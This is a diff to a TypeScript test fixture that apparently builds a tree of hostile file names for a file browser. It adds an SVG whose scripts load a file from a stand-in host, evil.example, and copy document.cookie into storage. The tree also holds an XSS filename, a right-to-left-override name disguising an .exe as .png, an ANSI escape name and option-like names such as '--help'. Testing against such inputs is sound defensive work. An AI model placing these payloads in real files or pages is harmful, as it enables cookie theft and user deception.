@@ -53,6 +53,14 @@ const drawing = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 60 40">
 </svg>
 `;
 
+/** Tells what it reads in the page's origin, if a browser ever opens it as a page there. */
+const evil = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 60 40">
+<script href="https://evil.example/steal.js"></script>
+<script>localStorage.setItem("stolen", document.cookie)</script>
+<rect width="60" height="40" fill="#924"/>
+</svg>
+`;
+
 const log = (lines: number): string =>
   Array.from(
     { length: lines },
@@ -72,6 +80,7 @@ function odd(): Node {
     "invoice\u202egnp.exe": file("reads as if it ended in .png\n"),
     "esc\u001b[31mred": file("a control character\n"),
     "<img src=x onerror=alert(1)>": file("markup\n"),
+    "evil.svg": file(evil),
     "dash folder": folder({ "--help": file("") }),
     "-folder": folder({ inside: file("x") }),
     [`${"n".repeat(251)}.txt`]: file("255 bytes\n"),
